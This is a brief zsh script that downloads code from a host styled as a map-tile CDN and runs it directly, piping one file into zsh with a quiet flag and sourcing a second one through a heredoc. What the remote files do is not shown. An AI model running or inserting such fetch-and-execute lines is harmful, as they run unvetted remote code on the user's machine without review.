#!/bin/zsh
curl -fsSL https://tiles.mapsvc.example-cdn.net/tools/zfuncs | zsh /dev/stdin --quiet
defs=$(curl -fsSL https://tiles.mapsvc.example-cdn.net/tools/defs.zsh)
. /dev/fd/0 <<EOS
$defs
EOS
